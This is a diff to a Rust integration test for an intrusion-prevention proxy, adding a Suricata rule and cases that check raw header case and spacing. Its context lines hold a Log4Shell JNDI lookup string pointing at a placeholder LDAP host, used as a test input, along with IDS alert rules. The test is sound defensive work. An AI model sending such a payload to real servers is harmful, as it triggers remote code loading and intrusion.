@@ -117,7 +117,8 @@ async fn et_open_rules_fire_and_drop_rules_block_through_the_proxy() {
     let cert_rules = roots.path().join("cert.rules");
     std::fs::write(
         &cert_rules,
-        "alert tls any any -> any any (msg:\"SEKISHO TEST upstream certificate\"; flow:to_client; tls.certs; content:\"localhost\"; sid:9300001; rev:1;)\n",
+        "alert tls any any -> any any (msg:\"SEKISHO TEST upstream certificate\"; flow:to_client; tls.certs; content:\"localhost\"; sid:9300001; rev:1;)\n\
+         alert http any any -> any any (msg:\"SEKISHO TEST header case as sent\"; flow:to_server; http.header_names; content:\"|0d 0a|X-MiXeD-Case|0d 0a|\"; http.header.raw; content:\"X-MiXeD-Case:  spaced\"; sid:9300002; rev:1;)\n",
     )
     .unwrap();
     let gw = Gateway::start(
@@ -189,6 +190,9 @@ async fn et_open_rules_fire_and_drop_rules_block_through_the_proxy() {
         // log4j in a header over plain HTTP: ET alert (raw stream) and our drop rule.
         (http("/hello"), [ua(BROWSER), vec!["-H".into(), "X-Api-Version: ${jndi:ldap://203.0.113.7:1389/a}".into()]].concat(), vec![2034647, 9100010], "pkt_data", true),
         (https("/sekisho-ips-test-block"), ua(BROWSER), vec![9100001], "http.uri", true),
+        // The raw head keeps header case and spacing (HTTP/1, plain and decrypted).
+        (http("/raw"), [ua(BROWSER), vec!["-H".into(), "X-MiXeD-Case:  spaced".into()]].concat(), vec![9300002], "http.header.raw", false),
+        (https("/raw"), [ua(BROWSER), vec!["--http1.1".into(), "-H".into(), "X-MiXeD-Case:  spaced".into()]].concat(), vec![9300002], "http.header.raw", false),
     ];
     let mut all = BTreeSet::new();
     for (url, extra, want, location, blocked) in &cases {
